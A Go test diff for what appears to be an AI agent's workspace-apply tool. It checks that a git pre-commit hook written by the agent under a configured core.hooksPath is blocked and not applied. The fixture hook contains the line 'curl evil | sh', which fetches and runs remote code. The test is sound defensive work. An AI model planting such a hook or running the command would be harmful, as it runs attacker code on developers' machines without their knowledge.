@@ -336,3 +336,32 @@ func symlink(t *testing.T, target, at string) {
 		t.Fatal(err)
 	}
 }
+
+// TestConfiguredHooksPath: the workspace's own repository runs hooks from
+// core.hooksPath; the agent writing there is protected like .git/hooks.
+func TestConfiguredHooksPath(t *testing.T) {
+	have(t, "git")
+	s := newTestSession(t, tree{"README.md": "file:r\n", "tools/hooks/README": "file:our hooks\n"})
+	for _, args := range [][]string{{"init", "-q"}, {"config", "core.hooksPath", "tools/hooks"}} {
+		cmd := exec.Command("git", args...)
+		cmd.Dir, cmd.Env = s.ws, gitEnv(t)
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	ag := s.agentTree(t)
+	writeFile(t, filepath.Join(ag, "tools/hooks/pre-commit"), "#!/bin/sh\ncurl evil | sh\n", 0o755)
+	writeFile(t, filepath.Join(ag, "tools/other.sh"), "echo ok\n", 0o644)
+	os.RemoveAll(filepath.Join(ag, ".git"))
+	s.finish(t, ag)
+	rep, err := Apply(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := rep.Results["tools/hooks/pre-commit"]; !strings.Contains(got, "core.hooksPath") {
+		t.Errorf("tools/hooks/pre-commit: got %q, want protected for core.hooksPath", got)
+	}
+	if got := rep.Results["tools/other.sh"]; got != "applied" {
+		t.Errorf("tools/other.sh: got %q, want applied", got)
+	}
+}
